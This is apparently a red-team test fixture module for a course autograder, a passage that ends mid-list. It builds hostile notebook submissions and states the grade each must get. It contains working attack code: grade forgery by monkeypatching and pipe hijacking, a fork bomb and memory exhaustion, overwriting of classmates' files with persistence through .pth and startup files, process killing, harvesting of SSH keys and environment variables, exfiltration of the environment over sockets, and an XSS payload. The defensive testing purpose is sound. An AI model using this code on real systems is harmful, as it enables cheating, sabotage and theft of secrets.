"""Red-team submissions against the course's own exercise sets, written as a hostile student would.

Each :class:`Attack` builds one submission from the student copy in ``exercises/`` (solution
cells filled with honest, wrong or hostile code) and says exactly what the grader must make of
it. ``tests/test_grading_redteam.py`` grades them all in one ``grade`` call per source notebook
and checks, besides each attacker's score, that nobody else paid for it (classmates' scores, the
reports, the files around the grader, the processes left, the secrets in the grader's reach).

The attacker is assumed to know everything about the grading machine except secrets: the paths of
the reports and of classmates' files, the repository and the grader's HOME are written into the
attacks (``Context``), as a student who saw the instructor's command line would guess them.
Every attack that leaves something behind marks it with ``MARK`` (file names, file contents,
process arguments), so the test can look for it afterwards.
"""
from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat
from nbformat.v4 import new_code_cell

ROOT = Path(__file__).resolve().parents[2]
SOURCE01 = ROOT / "solutions" / "01_softmax_cross_entropy.ipynb"
EXERCISE01 = ROOT / "exercises" / "01_softmax_cross_entropy.ipynb"
SOURCE04 = ROOT / "solutions" / "04_module_framework.ipynb"
EXERCISE04 = ROOT / "exercises" / "04_module_framework.ipynb"

# In every file name, file content and process argument an attack leaves behind; a number (it is
# also `sleep`'s argument), different in each test process so that concurrent runs keep apart.
MARK = str(7_000_000 + os.getpid() % 1_000_000)
PWNED = f"\n# PWNED-{MARK}\n"  # a comment: harmless in .py and .pth files
P, F, E, T, N = "passed", "failed", "error", "timeout", "not-run"
ANY = object()  # "whatever the report says" for an expectation

TESTS01 = ("ex_softmax_check", "ex_cross_entropy_check", "ex_grad_logits_check", "ex_jacobian_check")
POINTS01 = dict(zip(TESTS01, (2.0, 2.0, 3.0, 2.0)))
TESTS04 = ("ex_linear_backward_check", "ex_tanh_backward_check", "ex_momentum_check", "ex_xavier_check")
POINTS04 = dict(zip(TESTS04, (3.0, 2.0, 3.0, 2.0)))


@dataclass
class Context:
    """What the attacker knows about the grading machine (everything but the secrets)."""

    folder: Path                 # the submissions, classmates' included
    reports: tuple[Path, Path]   # --json and --csv
    classmates: tuple[Path, ...]
    home: Path                   # the grader's HOME (a fake SSH key lies in it)
    port: int                    # a TCP server of the test, in the grader's network namespace
    abstract: str                # an abstract unix socket of the test, same namespace
    repo: Path = ROOT


@dataclass
class Attack:
    """One submission and the grade it must get.

    ``statuses`` maps grade_id to a status or a set of allowed ones; ``error`` is a substring of
    the report's error (None: there must be none; ANY: not checked); ``messages`` maps grade_id
    to a substring of that test's message. ``xfail`` says why the attack currently succeeds.
    """

    name: str
    build: Callable[[Context], object]  # a notebook, or str for a file that is not one
    score: float
    statuses: dict
    error: object = None
    messages: dict = field(default_factory=dict)
    xfail: str | None = None


# ----- honest and wrong solutions ---------------------------------------------------------------
SOFTMAX = """def softmax(O):
    E = np.exp(O - O.max(axis=1, keepdims=True))
    return E / E.sum(axis=1, keepdims=True)"""
CROSS = """def cross_entropy(O, c):
    shifted = O - O.max(axis=1, keepdims=True)
    log_Y = shifted - np.log(np.exp(shifted).sum(axis=1, keepdims=True))
    return float(-log_Y[np.arange(len(c)), c].mean())"""
GRAD = """def cross_entropy_grad(O, c):
    B = O.shape[0]
    G = softmax(O)
    G[np.arange(B), c] -= 1
    return G / B"""
GRAD_NO_MEAN = """def cross_entropy_grad(O, c):
    G = softmax(O)
    G[np.arange(O.shape[0]), c] -= 1
    return G  # forgot the 1/B of the mean"""
JAC = """def softmax_jacobian(y):
    return np.diag(y) - np.outer(y, y)"""

# Wrong but well-formed: every check is reached, with a value of the right shape.
WRONG_SOFTMAX = "def softmax(O):\n    return np.full_like(O, 1.0 / O.shape[1], dtype=float)"
WRONG_CROSS = "def cross_entropy(O, c):\n    return float(np.log(O.shape[1]))"
WRONG_GRAD = "def cross_entropy_grad(O, c):\n    return np.zeros_like(O, dtype=float)"
WRONG_JAC = "def softmax_jacobian(y):\n    return np.zeros((len(y), len(y)))"

SOLUTION_IDS01 = ("ex_softmax", "ex_cross_entropy", "ex_grad_logits", "ex_jacobian")
HONEST01 = (SOFTMAX, CROSS, GRAD, JAC)
WRONG01 = (WRONG_SOFTMAX, WRONG_CROSS, WRONG_GRAD, WRONG_JAC)


def _gid(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _index(nb, gid: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if _gid(c) == gid)


def notebook(exercise: Path, solution_ids, sources, after=None, top=()):
    """The student copy with its solution cells replaced by ``sources`` (None keeps the stub),
    ``after`` {grade_id: [code, ...]} scratch cells right after that cell, ``top`` cells first."""
    nb = nbformat.read(str(exercise), as_version=4)
    for gid, source in zip(solution_ids, sources):
        if source is not None:
            nb.cells[_index(nb, gid)].source = source
    for gid, codes in (after or {}).items():
        at = _index(nb, gid) + 1
        nb.cells[at:at] = [new_code_cell(code) for code in codes]
    nb.cells[0:0] = [new_code_cell(code) for code in top]
    return nb


def sub01(softmax=SOFTMAX, cross=None, grad=None, jac=None, *, after=None, top=()):
    return notebook(EXERCISE01, SOLUTION_IDS01, (softmax, cross, grad, jac), after, top)


def wrong01(prefix: dict | None = None, **kw):
    """Every exercise wrong; ``prefix`` {grade_id: code} put before that cell's wrong code."""
    prefix = prefix or {}
    sources = [(prefix[g] + "\n\n" + s) if g in prefix else s for g, s in zip(SOLUTION_IDS01, WRONG01)]
    return sub01(*sources, **kw)


def expect01(score: float, **statuses) -> tuple[float, dict]:
    return score, {gid: statuses.get(gid.removesuffix("_check").removeprefix("ex_"), F) for gid in TESTS01}


# ----- pieces of hostile code ----------------------------------------------------------------------
PIPES = r'''
import json as _json, os as _os, struct as _struct

def _pipes(mode):
    """The worker's pipe ends with access ``mode`` (os.O_RDONLY or os.O_WRONLY), stderr left out."""
    found = []
    for name in sorted(_os.listdir("/proc/self/fd"), key=int):
        fd = int(name)
        try:
            if fd == 2 or not _os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                continue
            with open(f"/proc/self/fdinfo/{fd}") as info:
                flags = int(info.read().split("flags:")[1].split()[0], 8)
        except (OSError, IndexError, ValueError):
            continue
        if flags & 3 == mode:
            found.append(fd)
    return found

def _write_all(fd, data):
    view = memoryview(data)
    while view:
        view = view[_os.write(fd, view):]

def _frame(obj):
    data = obj if isinstance(obj, bytes) else _json.dumps(obj).encode()
    return _struct.pack(">Q", len(data)) + data

def _read_exact(fd, n):
    data = b""
    while len(data) < n:
        chunk = _os.read(fd, n - len(data))
        if not chunk:
            raise EOFError
        data += chunk
    return data

def _read_frame(fd):
    (size,) = _struct.unpack(">Q", _read_exact(fd, 8))
    return _json.loads(_read_exact(fd, size))

GRADER_OUT = _pipes(_os.O_WRONLY)[0]
GRADER_IN = _pipes(_os.O_RDONLY)[0]
'''

ENCODE = r'''
import base64 as _b64, numpy as _np

def _encode(kind, got):
    """A value as the worker describes it to the grader."""
    if kind == "close" or isinstance(got, _np.ndarray):
        arr = _np.ascontiguousarray(_np.asarray(got, dtype=_np.float64))
        return {"array": _b64.b64encode(arr.tobytes()).decode(), "shape": list(arr.shape)}
    if isinstance(got, tuple):
        return {"json": [int(x) if isinstance(x, int) else x for x in got], "tuple": True}
    return {"json": got if isinstance(got, (bool, int, float, str, type(None))) else repr(got)}
'''

FORWARD_EXPECTED = '''
def _forge(real):
    def check(exercise, got, expected=None, *args, **kwargs):
        # report the reference the test computed in my notebook instead of my own value
        return real(exercise, got if expected is None else expected, expected, *args, **kwargs)
    check.forged = True
    return check
'''


def _code(text: str, **values) -> str:
    """``text`` with each ``{{NAME}}`` replaced by ``repr(values[NAME])``."""
    for key, value in values.items():
        text = text.replace("{{" + key + "}}", repr(value))
    return text


# ----- 4. forgery inside the student's interpreter -----------------------------------------------
NEUTER = """import numpy
# the checks' own comparison inside my interpreter always agrees
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.isfinite = lambda x, *a, **k: numpy.ones(numpy.shape(x), dtype=bool)
"""

FORGE_NOOP = """expect_close = lambda *args, **kwargs: None
expect_equal = lambda *args, **kwargs: None"""

FORGE_EXPECTED_AS_GOT = FORWARD_EXPECTED + """
expect_close, expect_equal = _forge(expect_close), _forge(expect_equal)"""

FORGE_FRAME_WALK = FORWARD_EXPECTED + """
import sys

def softmax(O):
    # called from the test cell: rebind the checks in the globals of every frame above me
    frame = sys._getframe(1)
    while frame is not None:
        g = frame.f_globals
        for name in ("expect_close", "expect_equal"):
            if callable(g.get(name)) and not getattr(g[name], "forged", False):
                g[name] = _forge(g[name])
        frame = frame.f_back
    return np.full_like(O, 1.0 / O.shape[1], dtype=float)"""

FORGE_PATCH_LIBS = """import numpy, torch
numpy.allclose = lambda *a, **k: True
numpy.array_equal = lambda *a, **k: True
numpy.isfinite = lambda x, *a, **k: numpy.ones(numpy.shape(x), dtype=bool)
torch.softmax = lambda t, dim=None, **k: torch.from_numpy(numpy.asarray(softmax(t.numpy()), dtype=float))
torch.nn.functional.cross_entropy = lambda O, c, **k: torch.tensor(cross_entropy(O.detach().numpy(), c.numpy()))
torch.autograd.functional.jacobian = lambda f, o, **k: torch.from_numpy(softmax_jacobian(o.numpy()))"""

FORGE_RNG = NEUTER + """class _Zeros:
    # every 'random' input of the tests becomes zeros, and my answers are right for zeros
    def __init__(self, *a, **k):
        pass
    def normal(self, loc=0.0, scale=1.0, size=None):
        return np.zeros(size if size is not None else ())
    uniform = normal
    def integers(self, low, high=None, size=None, **k):
        return np.zeros(size if size is not None else (), dtype=int)
np.random.default_rng = _Zeros"""

FORGE_CODE_SWAP_EXPECTED = """from course_lib import checks

def _close(exercise, got, expected=None, rtol=1e-6, atol=1e-8, hints=()):
    _observe("close", exercise, got if expected is None else expected, rtol=rtol, atol=atol,
             hints=list(hints))

def _equal(exercise, got, expected=None, what="result"):
    _observe("equal", exercise, got if expected is None else expected, what=what)

checks.expect_close.__code__ = _close.__code__  # runs with the checks module's globals
checks.expect_equal.__code__ = _equal.__code__"""

FORGE_OBSERVERS_CLEARED = NEUTER + """from course_lib import checks
checks.OBSERVERS.clear()"""

FORGE_OBSERVER_FAKE = NEUTER + """import sys
from course_lib import checks
_real = list(checks.OBSERVERS)

def _fake(kind, exercise, got, params):
    # report the expected value the check was given, found in its frame, instead of mine
    frame = sys._getframe(1)
    while frame is not None and frame.f_code.co_name not in ("expect_close", "expect_equal"):
        frame = frame.f_back
    expected = frame.f_locals.get("expected") if frame is not None else None
    for observer in _real:
        observer(kind, exercise, got if expected is None else expected, params)

checks.OBSERVERS[:] = [_fake, _fake]  # twice, in case the count is what matters"""

FORGE_SETTRACE = """import sys

def _tracer(frame, event, arg):
    if (event == "call" and frame.f_code.co_name in ("expect_close", "expect_equal")
            and frame.f_locals.get("expected") is not None):
        frame.f_locals["got"] = frame.f_locals["expected"]  # written back when the tracer returns
    return None

sys.settrace(_tracer)"""

FORGE_LAZY = """import sys

class ndarray:
    # looks like numpy's (type name, shape); becomes whatever the check expected when converted
    def __init__(self, shape, mine):
        self.shape, self.mine = shape, mine
    def __array__(self, dtype=None, copy=None):
        frame = sys._getframe(1)
        while frame is not None:
            if frame.f_code.co_name in ("expect_close", "expect_equal") and frame.f_locals.get("expected") is not None:
                return np.asarray(frame.f_locals["expected"], dtype=dtype)
            frame = frame.f_back
        return np.asarray(self.mine, dtype=dtype)
    def __len__(self):
        return self.shape[0]

def softmax(O):
    return ndarray(O.shape, np.full_like(O, 1.0 / O.shape[1], dtype=float))

def cross_entropy(O, c):
    return ndarray((), np.log(O.shape[1]))

def cross_entropy_grad(O, c):
    return ndarray(O.shape, np.zeros(O.shape))

def softmax_jacobian(y):
    return ndarray((len(y), len(y)), np.zeros((len(y), len(y))))"""

FORGE_MODULE_SWAP = """import sys, types
import course_lib
fake = types.ModuleType("course_lib.checks")
fake.expect_close = lambda *args, **kwargs: None
fake.expect_equal = lambda *args, **kwargs: None
fake.OBSERVERS = []
sys.modules["course_lib.checks"] = fake
course_lib.checks = fake"""

FORGE_TRANSFORMER = """def _skip_checks(lines):
    # every cell that checks anything becomes 'pass' before IPython compiles it
    return ["pass\\n"] if any("expect_" in line for line in lines) else lines
get_ipython().input_transformers_post.append(_skip_checks)"""

FORGE_THREAD = NEUTER + ENCODE + """
import sys, threading, time
from course_lib import checks
# the worker's list of this cell's observations, from its observer's closure
_observations = next(c.cell_contents for c in checks.OBSERVERS[0].__closure__
                     if isinstance(c.cell_contents, list) and not any(isinstance(x, int) for x in c.cell_contents))
_main = threading.main_thread().ident

def _spy():
    # watch the main thread: when a check holds an expected value, put it in place of mine
    while True:
        frame = sys._current_frames().get(_main)
        while frame is not None:
            if frame.f_code.co_name in ("expect_close", "expect_equal"):
                expected = frame.f_locals.get("expected")
                if expected is not None and _observations:
                    entry = _observations[-1]
                    try:
                        entry["value"] = _encode(entry["kind"], expected)
                    except Exception:
                        pass
            frame = frame.f_back
        time.sleep(0.0002)

threading.Thread(target=_spy, daemon=True).start()"""

FORGE_STATUS_OK = PIPES + """
import json, os
_real_write = os.write

def _write_all(fd, data):
    view = memoryview(data)
    while view:
        view = view[_real_write(fd, view):]

def _rewrite(fd, data):
    # every answer of the worker to the grader says the cell went fine
    if fd == GRADER_OUT and len(data) > 8 and _struct.unpack(">Q", bytes(data[:8]))[0] == len(data) - 8:
        try:
            frame = json.loads(bytes(data[8:]))
            if frame.get("op") == "done":
                frame.update(status="ok", ename=None, evalue=None, traceback=None)
                _write_all(fd, _frame(frame))
                return len(data)
        except ValueError:
            pass
    return _real_write(fd, data)

os.write = _rewrite"""

FORGE_HIJACK = PIPES + ENCODE + """
from course_lib import checks
_mine = []
checks.OBSERVERS[:] = [lambda kind, exercise, got, params: _mine.append(
    {"kind": kind, "exercise": exercise, "value": _encode(kind, got), "params": {}})]
_write_all(GRADER_OUT, _frame({"op": "done", "status": "ok", "stdout": "", "observations": []}))
_ns = get_ipython().user_ns
while True:  # from now on I am the worker: every cell 'passes', whatever it raised
    try:
        request = _read_frame(GRADER_IN)
    except EOFError:
        _os._exit(0)
    _mine.clear()
    try:
        exec(compile(request.get("code", ""), "<cell>", "exec"), _ns)
    except BaseException:
        pass
    _write_all(GRADER_OUT, _frame({"op": "done", "status": "ok", "stdout": "", "observations": list(_mine)}))"""


# ----- 3. denial of service and the protocol --------------------------------------------------------
SLEEP = "import time\ntime.sleep(300)"
STUCK = """import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        time.sleep(1)
    except BaseException:
        pass"""
FORK_BOMB = """import os, time
started = 0
try:
    while True:
        if os.fork() == 0:  # each child: a session of its own, forking and spinning forever
            try:
                os.setsid()
                while True:
                    try:
                        os.fork()
                    except OSError:
                        pass
            finally:
                os._exit(0)
        started += 1
except OSError:
    pass
print("started", started)"""
CPU_HOG = """import os, resource, time

def spin(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        pass

start = time.monotonic()
children = []
for _ in range(24):  # 24 spinning processes, each in a session of its own
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            spin(2)
        finally:
            os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
wall = time.monotonic() - start
usage = resource.getrusage(resource.RUSAGE_CHILDREN)
CPUS = (usage.ru_utime + usage.ru_stime) / wall

def cross_entropy(O, c):
    raise RuntimeError(f"RT-CPU {CPUS:.2f} CPUs for {wall:.1f} s")"""
MEMORY_HOG = """import mmap, os, time
# processes that each stay under the per-process limit but together exceed the memory limit
for _ in range(6):
    if os.fork() == 0:
        try:
            block = bytearray(150 << 20)
            for i in range(0, len(block), 4096):
                block[i] = 1
            time.sleep(60)
        finally:
            os._exit(0)
# files in every tmpfs (memory too), then one process past its own limit, shared mappings included
chunk = b"\\1" * (48 << 20)
for folder in ("/dev/shm", "/tmp", ".", "/", "/opt", "/etc", "/home"):
    for k in range(40):
        try:
            with open(f"{folder}/redteam-hog-" + {{MARK}} + f"-{k}", "wb") as f:
                f.write(chunk)
        except OSError:
            break
for size in (8 << 30, 2 << 30):
    try:
        hog = bytearray(size)
    except MemoryError:
        pass
try:
    shared = mmap.mmap(-1, 1 << 30, flags=mmap.MAP_SHARED)
    for i in range(0, len(shared), 4096):
        shared[i] = 1
except (OSError, ValueError, MemoryError):
    pass
time.sleep(2)"""
HUGE_PRINTS_CROSS = """import os, sys
FLOODED = []

def flood():
    line = "spam " * 200_000
    for _ in range(40):
        print(line)
    for fd in (1, 2):
        for _ in range(40):
            os.write(fd, b"x" * (1 << 20))
    print("y" * (30 << 20))

""" + CROSS.replace("def cross_entropy(O, c):\n", """def cross_entropy(O, c):
    if not FLOODED:
        FLOODED.append(flood())
""")
HUGE_MESSAGE_JAC = """def softmax_jacobian(y):
    raise ValueError("z" * (20 << 20))"""
BIG_FRAME = PIPES + """
def cross_entropy(O, c):
    _write_all(GRADER_OUT, _struct.pack(">Q", 300 << 20))  # a 300 MB message, then its body
    chunk = b"x" * (1 << 20)
    try:
        for _ in range(300):
            _write_all(GRADER_OUT, chunk)
    except OSError:
        pass
    return 0.0"""
GARBAGE_FRAME = PIPES + """
import random
def cross_entropy(O, c):
    _write_all(GRADER_OUT, random.Random(1).randbytes(65536))
    return 0.0"""
NESTED_FRAME = PIPES + """
def cross_entropy(O, c):
    _write_all(GRADER_OUT, _frame(b"[" * (12 << 20)))  # 12 MB of nesting, under the 16 MB cap
    return 0.0"""
AMPLIFY_FRAME = PIPES + """
def cross_entropy(O, c):
    # just under the cap, a JSON document that becomes millions of objects in the grader
    body = b'{"op": "done", "status": "ok", "observations": [' + b"{}," * ((15 << 20) // 3) + b'{}]}'
    _write_all(GRADER_OUT, _frame(body))
    _os._exit(0)"""
OVERFLOW_SHAPE = """from course_lib import checks
# the worker's list of this cell's observations, from its observer's closure
_observations = next(c.cell_contents for c in checks.OBSERVERS[0].__closure__
                     if isinstance(c.cell_contents, list) and not any(isinstance(x, int) for x in c.cell_contents))

def add_a_huge_shape():
    _observations.append({"kind": "close", "exercise": "ex_cross_entropy",
                          "value": {"array": "", "shape": [10 ** 30]}})

""" + CROSS.replace("def cross_entropy(O, c):\n", "def cross_entropy(O, c):\n    add_a_huge_shape()\n")
DESYNC_HANG = PIPES + """
import signal, time
# answer for this cell myself, then stop reading: the grader's next message must not block it
_write_all(GRADER_OUT, _frame({"op": "done", "status": "ok", "stdout": "", "observations": []}))
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    time.sleep(1)"""
BIG_CELL = "# " + "padding " * ((2 << 20) // 8) + "\nx = 1"
MANY_CELLS_JSON_CELL = {"cell_type": "code", "metadata": {}, "source": "pass", "outputs": [],
                        "execution_count": None}


def deep_json(depth: int = 100_000) -> str:
    return '{"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": [' + "[" * depth + "]" * depth + "]}"


def many_cells(count: int = 100_000) -> str:
    return json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": {},
                       "cells": [MANY_CELLS_JSON_CELL] * count})


# ----- 1./2./5. host harm, cross-student, secrets ------------------------------------------------
def host_targets(ctx: Context) -> dict:
    repo = ctx.repo
    import sysconfig
    site = sysconfig.get_paths()["purelib"]
    # Files of the shared checkout are only appended to, with a comment (PWNED): should the
    # sandbox ever fail, they still work and the test names them.
    overwrite = [*map(str, ctx.reports), *map(str, ctx.classmates)]
    append = [str(repo / "course_lib" / "checks.py"), "/opt/course_lib/course_lib/checks.py",
              f"{site}/distutils-precedence.pth"]
    create = [f"{site}/zz_redteam_{MARK}.pth",
              f"/root/.ipython/profile_default/startup/00-redteam-{MARK}.py",
              f"{ctx.home}/.ipython/profile_default/startup/00-redteam-{MARK}.py",
              f"{ctx.home}/.bashrc", f"{ctx.home}/redteam-{MARK}.txt",
              f"/tmp/redteam-{MARK}-host", f"{ctx.folder}/redteam-{MARK}.ipynb",
              f"{ctx.folder.parent}/redteam-{MARK}.txt", f"{repo}/course_lib/redteam_{MARK}.py"]
    links = [(f"{ctx.folder}/redteam-{MARK}-link", str(repo / "course_lib" / "checks.py")),
             (f"{ctx.reports[0].parent}/.{ctx.reports[0].name}.tmp", str(repo / "course_lib" / "checks.py"))]
    return {"overwrite": overwrite, "append": append, "create": create, "links": links}


DAEMON = """import os, signal, sys, time
for s in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT, signal.SIGPIPE):
    signal.signal(s, signal.SIG_IGN)
end = time.time() + 120
while time.time() < end:  # after grading, keep rewriting the reports and classmates' files
    for path in sys.argv[2:]:
        try:
            with open(path, "w") as f:
                f.write("{{PWNED}}")
        except OSError:
            pass
    time.sleep(0.3)
"""

HOST_HARM = """import os, subprocess, sys
TARGETS = {{TARGETS}}
done = []

def attempt(what, action):
    try:
        action()
        done.append("ok " + what)
    except BaseException as err:
        done.append(f"no {what} ({type(err).__name__})")

def write(path, mode):
    with open(path, mode) as f:
        f.write({{PWNED}})

def create(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    write(path, "w")

for path in TARGETS["overwrite"]:
    attempt("w " + path, lambda p=path: write(p, "w"))
    attempt("a " + path, lambda p=path: write(p, "a"))
for path in TARGETS["append"]:
    attempt("a " + path, lambda p=path: write(p, "a"))
for path in TARGETS["create"]:
    attempt("c " + path, lambda p=path: create(p))
for link, dest in TARGETS["links"]:
    attempt("l " + link, lambda l=link, d=dest: os.symlink(d, l))

# processes that should outlive me: setsid, nohup, a double fork with a new name
quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
attempt("setsid", lambda: subprocess.Popen(["setsid", "sleep", {{MARK}}], start_new_session=True, **quiet))
attempt("nohup", lambda: subprocess.Popen(["nohup", "sleep", {{MARK}} + "1"], **quiet))
attempt("bash", lambda: subprocess.Popen(["bash", "-c", "(exec -a redteam-" + {{MARK}} + " sleep 600 &) ; disown -a"],
                                          start_new_session=True, **quiet))
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", {{DAEMON}}, "redteam-daemon-" + {{MARK}},
                                      *TARGETS["overwrite"]])
    finally:
        os._exit(0)
os.waitpid(pid, 0)

def cross_entropy(O, c):
    raise RuntimeError("RT-HOST " + "; ".join(done))"""

HOST_LAST_CELL = """import os, sys
# the very last cell: start the daemon and end, so the sandbox is torn down right after
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", {{DAEMON}}, "redteam-daemon-last-" + {{MARK}},
                                  *{{TARGETS}}])
    os._exit(0)"""

CROSS_PROBE = """import glob, json, os, signal, socket, time
found = {}
found["pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
found["foreign"] = [p for p in found["pids"] if p != os.getpid()]
found["scratch"] = sorted(n for d in ("/tmp", "/dev/shm") for n in os.listdir(d))
found["classmates"] = [p for p in {{CLASSMATES}} + glob.glob("/home/*/*.ipynb") + glob.glob("/tmp/*.ipynb")
                       if os.path.exists(p) and not p.startswith(os.getcwd())]
found["sysv_shm"] = open("/proc/sysvipc/shm").read().count("\\n") - 1 if os.path.exists("/proc/sysvipc/shm") else -1
ports = []
start = time.monotonic()
for port in [*range(1, 1025), *range({{PORT}} - 50, {{PORT}} + 50), *range(8000, 9001)]:
    s = socket.socket()
    if s.connect_ex(("127.0.0.1", port)) == 0:
        ports.append(port)
        s.sendall(b"RT-CROSS")
    s.close()
found["open_ports"] = ports
found["abstract"] = []
for name in ({{ABSTRACT}}, "redteam-" + {{MARK}}):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect("\\0" + name)
        s.sendall(b"RT-CROSS")
        found["abstract"].append(name)
    except OSError:
        pass
    s.close()
killed = 0
mine = {int(t) for t in os.listdir("/proc/self/task")}  # my own threads answer kill() too
for pid in range(2, 4096):
    if pid in mine:
        continue
    try:
        os.kill(pid, signal.SIGKILL)
        killed += 1
    except OSError:
        pass
found["killed"] = killed

def cross_entropy(O, c):
    raise RuntimeError("RT-CROSS " + json.dumps(found))"""

KILL_GRADER = """import os, signal
if os.fork() == 0:
    try:
        os.kill(-1, signal.SIGKILL)  # everyone I may signal
        os.kill(1, signal.SIGKILL)   # my PID 1
    finally:
        os._exit(0)
os.wait()
os.kill(os.getppid(), signal.SIGKILL)  # the grader, I hope"""

SECRETS_PROBE = """import glob, json, os, time
found = []  # (path, text)
mine = os.getcwd()

def grab(path, limit=200_000):
    if path.startswith(mine):
        return
    try:
        with open(path, "rb") as f:
            found.append((path, f.read(limit).decode("utf-8", "replace")))
    except OSError:
        pass

for path in ["/proc/1/environ", "/proc/self/environ", "/proc/1/cmdline", "/proc/self/mountinfo",
             *glob.glob("/proc/*/environ"), *glob.glob("/proc/*/cmdline")]:
    grab(path)
found.append(("os.environ", repr(dict(os.environ))))
for path in [{{HOME}} + "/.ssh/id_rsa", "/root/.ssh/id_rsa", os.path.expanduser("~/.ssh/id_rsa"),
             {{SOURCE}}, {{REPORT}}, *{{CLASSMATES}}]:
    grab(path)
end = time.monotonic() + 3
for top in ("/home", "/root", "/tmp", "/dev/shm", "/opt", "/etc", "/work", "/srv", "/mnt", "/var", "/usr/local", "/"):
    for dirpath, dirnames, filenames in os.walk(top):
        if time.monotonic() > end:
            break
        if dirpath == "/":
            dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "usr")]
        for name in filenames:
            if name.endswith((".ipynb", ".json", ".csv")) or name.startswith("id_") or "secret" in name.lower():
                grab(os.path.join(dirpath, name))
words = {"solution": "BEGIN SOLUTION", "token": "GRADER_SECRET", "key": "PRIVATE KEY"}
hits = {label: sorted({p for p, t in found if w in t}) for label, w in words.items()}
hits["ssh"] = sorted(p for p in hits["key"] if "/.ssh/" in p)
hits["key"] = len(hits["key"])  # library data has certificates and examples: count only
snippets = [t[max(0, t.find(w) - 100):t.find(w) + 300] for label, w in words.items() if label != "key"
            for p, t in found if w in t]
snippets += [t[:300] for p, t in found if p in hits["ssh"]]

def cross_entropy(O, c):
    raise RuntimeError("RT-SECRETS " + json.dumps(hits) + " " + " | ".join(snippets)[:2500])"""

NET_EXFIL = """import json, os, socket
tried = {}
payload = ("RT-EXFIL " + repr(dict(os.environ))).encode()
for host in ("127.0.0.1", "localhost", "0.0.0.0", "::1", "10.0.2.2", "172.17.0.1", "192.168.0.1", "169.254.169.254"):
    try:
        with socket.create_connection((host, {{PORT}}), timeout=1) as s:
            s.sendall(payload)
        tried[host] = "connected"
    except OSError as err:
        tried[host] = type(err).__name__
    try:
        u = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(payload, (host, {{PORT}}))
        u.close()
    except OSError:
        pass
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("\\0" + {{ABSTRACT}})
    s.sendall(payload)
    tried["abstract"] = "connected"
except OSError as err:
    tried["abstract"] = type(err).__name__
s.close()

def cross_entropy(O, c):
    raise RuntimeError("RT-NET " + json.dumps(tried))"""

FEEDBACK_EXFIL = """# a scratch cell of mine, right after a test: its output goes into my feedback page
print(In[-2])  # the test cell that just ran, hidden tests included
print("<script>alert('rt')</script><img src=x onerror=alert(1)>")"""

HIDDEN_EXFIL = """def softmax_jacobian(y):
    # every cell run so far, the test cells with their hidden tests included, is in In
    raise RuntimeError("RT-HIDDEN " + "\\n".join(In)[-3900:])"""


# ----- the attacks on 01 -----------------------------------------------------------------------------
def _honest(ctx):
    return sub01(*HONEST01)


def attacks01() -> list[Attack]:
    a = []

    def add(name, build, expectation, error=None, messages=None, xfail=None):
        score, statuses = expectation
        a.append(Attack(name, build, score, statuses, error, messages or {}, xfail))

    # baselines, and bystanders that run next to the heaviest attacks (two sandboxes at a time)
    add("honest", _honest, expect01(9, softmax=P, cross_entropy=P, grad_logits=P, jacobian=P))
    add("classmate", lambda c: sub01(SOFTMAX, CROSS, GRAD_NO_MEAN, JAC),
        expect01(6, softmax=P, cross_entropy=P, grad_logits=F, jacobian=P),
        messages={"ex_grad_logits_check": "divided by B"})
    honest_score = expect01(9, softmax=P, cross_entropy=P, grad_logits=P, jacobian=P)

    # 3. denial of service (heavy ones first, each followed by a bystander)
    add("fork_bomb", lambda c: sub01(after={"ex_softmax_check": [FORK_BOMB, SLEEP, SLEEP, SLEEP]}),
        # its processes slow its own worker down, whatever the load: the deadline still ends it
        (2, {"ex_softmax_check": P, **{g: N for g in TESTS01[1:]}}), error="deadline")
    add("bystander_fork_bomb", _honest, honest_score)
    add("cpu_hog", lambda c: sub01(cross=CPU_HOG), expect01(2, softmax=P),
        messages={"ex_cross_entropy_check": "RT-CPU"})
    add("memory_hog", lambda c: sub01(after={"ex_softmax_check": [_code(MEMORY_HOG, MARK=MARK)]}),
        (2, {"ex_softmax_check": P, **{g: {F, N, E} for g in TESTS01[1:]}}), error=ANY)
    add("bystander_memory_hog", _honest, honest_score)
    add("sleepers", lambda c: sub01(after={"ex_softmax_check": [SLEEP] * 30}),
        (2, {"ex_softmax_check": P, **{g: N for g in TESTS01[1:]}}), error="deadline")
    add("stuck", lambda c: sub01(after={"ex_softmax_check": [STUCK]}),
        (2, {"ex_softmax_check": P, **{g: N for g in TESTS01[1:]}}), error="ignored the interrupt")
    add("desync_hang", lambda c: sub01(after={"ex_softmax_check": [DESYNC_HANG, BIG_CELL]}),
        (2, {"ex_softmax_check": P, **{g: N for g in TESTS01[1:]}}), error="stopped reading")
    add("huge_prints", lambda c: sub01(SOFTMAX, HUGE_PRINTS_CROSS, None, HUGE_MESSAGE_JAC),
        expect01(4, softmax=P, cross_entropy=P), messages={"ex_jacobian_check": "ValueError: zzzz"})
    add("amplify_frame", lambda c: sub01(cross=AMPLIFY_FRAME),
        (2, {"ex_softmax_check": P, "ex_cross_entropy_check": F, "ex_grad_logits_check": N,
